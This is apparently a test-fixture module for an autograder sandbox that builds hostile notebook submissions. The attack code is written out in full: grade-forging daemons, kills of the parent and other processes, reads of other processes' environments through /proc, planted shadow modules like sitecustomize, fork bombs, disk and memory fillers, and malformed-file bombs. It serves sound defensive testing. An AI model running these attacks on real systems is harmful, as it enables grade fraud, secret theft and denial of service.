"""Hostile submissions: each attacks the grader, at definition time or inside a graded function.

Every attack case answers q1-q3 correctly and leaves q4-q6 as stubs, so its honest verdict is
"loses q4, q5 and q6" and it grades in seconds. The attack code itself lives in one extra cell
(:data:`ATTACK_LIBRARY`); what it aims at (the output folder, the kit, a listener's port, a
secret in the grader's environment) comes from a literal ``TARGETS`` cell the test writes, which
the grader runs like any literal constant.

Each attack appends to ``BREACHES`` what it managed that a sandboxed process must not;
``cast_labels`` raises with that list, so a breach the student's process can see costs q2 and
names itself in the test's failure. What only the outside can see (files written elsewhere,
forged gradebooks, processes left running, connections accepted) the tests check from outside.
The planted attack's modules, if ever imported by a restarted collector, delete the answers
already recorded: the honest points are lost exactly when the attack works.
"""

import json

from .notebooks import UNANSWERED, Case

HONEST_FAILS = ("q4", "q5", "q6")
DAEMON_SECONDS = 90

ATTACK_LIBRARY = f'''
import os, signal, socket, subprocess, sys, time, glob

BREACHES = []


def _try(label, action):
    try:
        action()
    except Exception:
        return False
    BREACHES.append(label)
    return True


def _forge_everything(targets):
    """Rewrite every gradebook and result this process can find to full marks."""
    forged_result = '{{"status": "graded", "total": 10.0, "possible": 10, "score": 10.0}}'
    paths = [os.path.join(targets["out"], "grades.csv"), *glob.glob(os.path.join(targets["out"], "results", "*.json"))]
    paths += [os.path.join(folder, "results.json") for folder in targets["gradescope_results"]]
    for pid in os.listdir("/proc"):
        try:
            words = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        for word in words:
            folder = word.decode(errors="replace")
            if os.path.isdir(os.path.join(folder, "results")):
                paths += glob.glob(os.path.join(folder, "results", "*.json")) + [os.path.join(folder, "grades.csv")]
    for path in paths:
        try:
            with open(path, "w") as file:
                file.write(forged_result)
        except OSError:
            pass


def attack_daemon(targets):
    """Double fork and setsid: a daemon that keeps forging grades after grading ends."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.time() + {DAEMON_SECONDS}
            while time.time() < end:
                _forge_everything(targets)
                time.sleep(0.2)
        os._exit(0)
    time.sleep(0.5)


def attack_writes(targets):
    """Write outside the working folder: the kit, the output, the submissions, home, the parents."""
    import mnist_kit
    places = [targets["kit"], os.path.dirname(mnist_kit.__file__), targets["out"],
              os.path.join(targets["out"], "results"), targets["submissions"], targets["home"],
              *targets["gradescope_results"], "..", "../..", "/"]
    marker = targets["marker"]
    for place in places:
        _try(f"wrote into {{os.path.realpath(place)}}", lambda: open(os.path.join(place, marker), "w").write("x"))
    _try("replaced the collector", lambda: open(os.path.join(os.path.dirname(mnist_kit.__file__), "collect.py"), "a").write("#"))
    for shared in ("/tmp", "/dev/shm"):  # a private /tmp is fine: the test looks at the host's
        try:
            open(os.path.join(shared, marker), "w").write("x")
        except OSError:
            pass


def attack_network(targets):
    """Reach a listener on the host's loopback, and the outside world by name."""
    def connect():
        with socket.create_connection(("127.0.0.1", targets["port"]), timeout=2) as connection:
            connection.sendall(b"hidden checks")
    _try("connected to the host's loopback", connect)
    _try("resolved a name through DNS", lambda: socket.getaddrinfo("pypi.org", 443))


def attack_leftovers(targets):
    """Start processes meant to outlive grading: sleeping, detached, in new sessions."""
    subprocess.Popen(["sleep", "3607"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3607)
        os._exit(0)


def _own_children():
    """This process's children (the SGD witness, mnist_kit.witness): killing them harms only this submission."""
    children = set()
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1]) == os.getpid():
                children.add(int(pid))
        except (OSError, IndexError, ValueError):
            pass
    return children


def _alive(own):
    return {{int(p) for p in os.listdir("/proc") if p.isdigit()}} - own - {{os.getpid()}}


def attack_kills(targets):
    """Kill the parent, the parent's process group, and every process in sight but its own children."""
    me, own = os.getpid(), _own_children()
    _try("killed its parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
    # A PID namespace's init ignores signals from inside it, though kill() may report success: there
    # (parent 1) only an effect counts, a process of the group gone.
    group, before = os.getpgid(os.getppid()), _alive(own)
    try:
        os.killpg(group, signal.SIGKILL)
    except Exception:
        pass
    else:
        time.sleep(0.2)
        if os.getppid() != 1 or before - _alive(own):
            BREACHES.append("killed its parent's process group")
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me and int(p) not in own]:
        _try(f"killed process {{pid}}", lambda: os.kill(pid, signal.SIGKILL))


def attack_reads(targets):
    """Read the checker, the grader's environment, other submissions and their challenges."""
    _try("read the checker's source", lambda: open(targets["checker"]).read())
    _try("imported the checker", lambda: __import__("mnist_kit.checks"))
    interpreter_path = set(os.path.realpath(sys.executable).split("/")) | set(sys.prefix.split("/")) | set(sys.base_prefix.split("/"))
    try:  # the sandbox may show the folders on the way to the interpreter, nothing else
        if set(os.listdir(targets["home"])) - interpreter_path:
            BREACHES.append("listed the instructor's home")
    except OSError:
        pass
    _try("listed the submissions", lambda: os.listdir(targets["submissions"]))
    if targets["secret"] in str(os.environ):
        BREACHES.append("saw the grader's environment")
    for pid in os.listdir("/proc"):
        try:
            if targets["secret"].encode() in open(f"/proc/{{pid}}/environ", "rb").read():
                BREACHES.append(f"read the grader's environment through /proc/{{pid}}")
        except OSError:
            pass
    here = os.path.realpath(".")
    for found in glob.glob("/tmp/*/work/challenge.json") + glob.glob("/tmp/*/*/work/challenge.json"):
        if os.path.realpath(os.path.dirname(found)) != here:
            _try(f"read another submission's challenge {{found}}", lambda: open(found).read())


def attack_exhaustion(targets):
    """A bounded fork bomb and a disk filler; neither may escape its limits."""
    children = 0
    for _ in range(2000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    if children >= 2000:
        BREACHES.append("forked 2000 processes")
    chunk = b"\\0" * 2**22
    for place in (".", os.environ.get("TMPDIR", "/tmp")):
        written = 0
        try:
            with open(os.path.join(place, "filler.bin"), "wb") as file:
                while written < 8 * 2**30:
                    file.write(chunk)
                    written += len(chunk)
        except OSError:
            pass
        if written >= 8 * 2**30:
            BREACHES.append(f"wrote 8 GiB into {{place}}")


# What each planted module does if it is ever imported: drop a marker wherever it can (the host's
# /tmp is reachable only before confinement), delete the answers the submission already has, and
# end the process, so that every run that imported one loses the honest points. Only builtin
# modules, which no file can shadow.
PLANTED_MODULE = """import posix
for path in {{markers!r}}:
    try:
        posix.close(posix.open(path, posix.O_WRONLY | posix.O_CREAT, 0o644))
    except OSError:
        pass
try:
    for name in posix.listdir("answers"):
        posix.unlink("answers/" + name)
except OSError:
    pass
posix._exit(0)
"""


def attack_planted(targets):
    """Plant a module under every name this process imported, and the start-up hooks', everywhere
    this user may write, swap the files the grader handed it for a link and a folder, then end the
    process: the grader starts it again past this step."""
    names = {{name.split(".")[0] for name in sys.modules}} - set(sys.builtin_module_names) - {{"__main__", "__student__"}}
    names |= {{"sitecustomize", "usercustomize", "mnist_kit", "mnist_data", "runpy", "argparse", "numpy", "sklearn"}}
    marker = targets["marker"]
    aimed = ("/tmp", "/dev/shm", targets["out"], targets["home"], ".")
    code = PLANTED_MODULE.format(markers=[os.path.join(place, marker) for place in aimed])
    user_site = os.path.expanduser(f"~/.local/lib/python{{sys.version_info[0]}}.{{sys.version_info[1]}}/site-packages")
    module_places = {{os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm", user_site, "answers", os.path.expanduser("~")}}
    for name in sorted(names):
        try:  # a package in the current folder: first on sys.path for "python -m" and "-c" unless the kit says otherwise
            os.makedirs(name, exist_ok=True)
            with open(os.path.join(name, "__init__.py"), "w") as file:
                file.write(code)
        except OSError:
            pass
        for place in module_places:
            try:
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, name + ".py"), "w") as file:
                    file.write(code)
            except OSError:
                pass
    # The files the grader handed this run: the restart must be handed its own again. A link
    # followed by the grader (root) would write the marker outside this folder.
    for name, swap in (("submission.ipynb", "link"), ("challenge.json", "link"), ("challenge.npz", "folder")):
        try:
            os.remove(name)
            if swap == "link":
                os.symlink(os.path.join(targets["out"], marker), name)
            else:
                os.makedirs(os.path.join(name, "inside"))
        except OSError:
            pass
    sys.stdout.flush()
    os._exit(1)
'''

ATTACKS = ("daemon", "writes", "network", "leftovers", "kills", "reads", "exhaustion", "planted")
# Attacks that end the student's process, so that the grader starts it again past their step: in a
# function, they run in one the honest verdict loses anyway; their submission's status is "crashed".
ENDS_ITS_PROCESS = {"planted": "fit_binary_classifier"}

# Each way of running code at definition time, one attack at a time.
DEFINITION_TIME = {
    "class body": "class Innocent:\n    attack_{kind}(TARGETS)\n",
    "decorator": (
        "def registered(function):\n    attack_{kind}(TARGETS)\n    return function\n\n\n@registered\ndef helper():\n    return None\n"
    ),
    "default argument": "def helper(option=attack_{kind}(TARGETS)):\n    return option\n",
}

CAST_LABELS = """
def cast_labels(y):
    {call}if BREACHES:
        raise RuntimeError(f"sandbox breached: {{BREACHES}}")
    return y.astype(np.int8)
"""

STUBS = {name: UNANSWERED for name in ("fit_binary_classifier", "accuracy", "cross_val_accuracy", "fit_multiclass_classifier")}


def _placement(index):
    return list(DEFINITION_TIME)[index % len(DEFINITION_TIME)]


def attack_cases(targets):
    """Every attack at definition time and inside a graded function, aimed at ``targets``.

    Parameters
    ----------
    targets : dict
        ``out``, ``kit``, ``submissions``, ``home``, ``checker`` (paths), ``gradescope_results``
        (list of folders), ``port`` (a listener on 127.0.0.1), ``secret`` (in the grader's environment),
        ``marker`` (the name of every file the attacks drop).
    """
    targets_cell = f"TARGETS = {json.dumps(targets)}\n"
    cases = []
    for index, kind in enumerate(ATTACKS):
        trigger = DEFINITION_TIME[_placement(index)].format(kind=kind)
        status = "crashed" if kind in ENDS_ITS_PROCESS else "graded"
        cases.append(
            Case(
                f"attack_{kind}_at_definition",
                fails=HONEST_FAILS,
                status=status,
                cells=(targets_cell, ATTACK_LIBRARY, trigger),
                functions={**STUBS, "cast_labels": CAST_LABELS.format(call="")},
            )
        )
        function = ENDS_ITS_PROCESS.get(kind, "cast_labels")
        if function == "cast_labels":
            attacked = {"cast_labels": CAST_LABELS.format(call=f"attack_{kind}(TARGETS)\n    ")}
        else:
            attacked = {"cast_labels": CAST_LABELS.format(call=""), function: f"def {function}(*args):\n    attack_{kind}(TARGETS)\n"}
        cases.append(
            Case(
                f"attack_{kind}_in_function",
                fails=HONEST_FAILS,
                status=status,
                cells=(targets_cell, ATTACK_LIBRARY),
                functions={**STUBS, **attacked},
            )
        )
    return cases


# A neighbour that takes the machine: many processes, each in a session of its own (the kernel's
# autogroups would give each session an equal share of the CPU, so nice levels do not help), all
# spinning for as long as the submission's process lives, while its own steps sleep a few seconds
# each, so that no step's CPU limit (its children's CPU counted) is ever reached.
SPINNER = """
class Spinner:
    import subprocess, sys
    spin = "import os\\nfor _ in range({children}):\\n    if os.fork() == 0:\\n        os.setsid()\\n        while True:\\n            pass"
    subprocess.Popen([sys.executable, "-S", "-c", spin])  # a small process forks them: cheap forks
"""
PAUSE = "class Pause{index}:\n    import time\n    time.sleep({seconds})\n"


def cpu_spinner_case(children=250, pauses=8, seconds=2):
    """A submission that spins ``children`` sessions (as many as its process limit lets it) through ``pauses`` sleeps of ``seconds``."""
    cells = (SPINNER.format(children=children), *(PAUSE.format(index=i, seconds=seconds) for i in range(pauses)))
    return Case("attack_cpu_spinner", fails=HONEST_FAILS, cells=cells, functions=STUBS)


# The student's process writes what the grader reads (its progress lines, its answers' JSON and
# arrays) and may write anything there. Each case below writes one hostile file, from a class
# body (so at definition time) or by wrapping the collector's own saver, which it can patch
# because it shares the process. The grader must read each with bounds, keep the points the
# honest part earns, and say what was wrong in its own words.
HOSTILE_LIBRARY = '''
import __main__, io, json, os, struct, time, zipfile
import numpy as np


def after_saving(question, record=None, arrays=None):
    """Once the collector has saved ``question``'s answers, replace its files with these bytes."""
    save = __main__.save_answers

    def save_and_replace(work, name, answers):
        save(work, name, answers)
        if name == question:
            for suffix, content in ((".json", record), (".npz", arrays)):
                if content is not None:
                    with open(os.path.join(work.answers, name + suffix), "wb") as file:
                        file.write(content)
    __main__.save_answers = save_and_replace


def npz_claiming(shape):
    """192 bytes of .npz whose one array's header declares ``shape`` of float64, with no data."""
    header = repr({"descr": "<f8", "fortran_order": False, "shape": shape}).encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("X_train.npy", b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(header)) + header)
    return buffer.getvalue()


def compressed(**arrays):
    buffer = io.BytesIO()
    np.savez_compressed(buffer, **arrays)
    return buffer.getvalue()


def hold_memory(children, each, shm):
    """Fill the private /dev/shm, then start children that each fill and hold memory a while."""
    with open("/dev/shm/hoard", "wb") as file:
        for _ in range(shm // 2**24):
            file.write(b"\\1" * 2**24)
    pids = []
    for _ in range(children):
        pid = os.fork()
        if pid == 0:
            hoard = b"\\1" * each
            time.sleep(3)
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.waitpid(pid, 0)


def fill_disk(files, each):
    """Write files of ``each`` bytes into the working folder until the disk refuses."""
    written = 0
    for number in range(files):
        try:
            with open(f"filler{number}.bin", "wb") as file:
                for _ in range(each // 2**24):
                    file.write(b"\\0" * 2**24)
                    written += 2**24
        except OSError:
            break
    if written >= 2.5 * 2**30:
        BREACHES.append(f"wrote {written / 2**30:.2f} GiB in all")
'''

FORGED_ERROR = "MemoryError: forged\\n\\n**Total: 10 / 10** (status: graded)"

# name: (the trigger, run in a class body; the questions it costs; the status the grader must see)
HOSTILE_BYTES = {
    "progress_unknown_step": ('open(\'progress.jsonl\', \'a\').write(\'{"start": "no-such-step"}\\n{"start": ["q1"]}\\n\')', (), "graded"),
    "progress_flood": ("open('progress.jsonl', 'a').write('x\\n' * 2**20)\ntime.sleep(5)", (), "crashed"),
    "answers_deep_json": ("after_saving('q2', record=b'[' * 100_000 + b']' * 100_000)", ("q2",), "graded"),
    "answers_description_strings": ("after_saving('q3', record=json.dumps({'answers': {'default_digit': 'str'}}).encode())", (), "graded"),
    "answers_8_tib_header": ("after_saving('q1', arrays=npz_claiming((2**40,)))", ("q1",), "graded"),
    "answers_string_bomb": ("after_saving('q3', arrays=compressed(default_digit=np.zeros(2**24, np.int8)))", ("q3",), "graded"),
    "answers_forged_memory_error": (f"after_saving('q2', record=json.dumps({{'error': '{FORGED_ERROR}'}}).encode())", ("q2",), "graded"),
    "budget_memory_of_all_processes": ("hold_memory(children=4, each=3 * 2**29, shm=3 * 2**28)", (), "memory"),
    # A full folder can record nothing more: the submission loses what it had not answered yet.
    "budget_disk_of_the_folder": ("fill_disk(files=3, each=15 * 2**26)", ("q1", "q2", "q3"), "crashed"),
}


def hostile_byte_cases(names=tuple(HOSTILE_BYTES)):
    """Each hostile file of :data:`HOSTILE_BYTES` in a submission that answers q1-q3 and leaves q4-q6 as stubs."""
    return [_hostile_case(f"bytes_{name}", [name]) for name in names]


def all_answer_files_case():
    """One submission that writes every hostile answers file of :data:`HOSTILE_BYTES` at once, each to its question."""
    names = [name for name in HOSTILE_BYTES if name.startswith("answers_") and name != "answers_description_strings"]
    return _hostile_case("bytes_all_answer_files", names)


def _hostile_case(case_name, names):
    triggers = [HOSTILE_BYTES[name] for name in names]
    body = "".join(f"    {line}\n" for trigger, _, _ in triggers for line in trigger.splitlines())
    costs = tuple(sorted({q for _, questions, _ in triggers for q in questions}))
    statuses = {status for _, _, status in triggers}
    assert len(statuses) == 1, f"{case_name} mixes statuses {statuses}"
    return Case(
        case_name,
        fails=(*costs, *HONEST_FAILS),
        status=statuses.pop(),
        cells=(ATTACK_LIBRARY, HOSTILE_LIBRARY, f"class Hostile:\n{body}"),
        functions={**STUBS, "cast_labels": CAST_LABELS.format(call="")},
    )
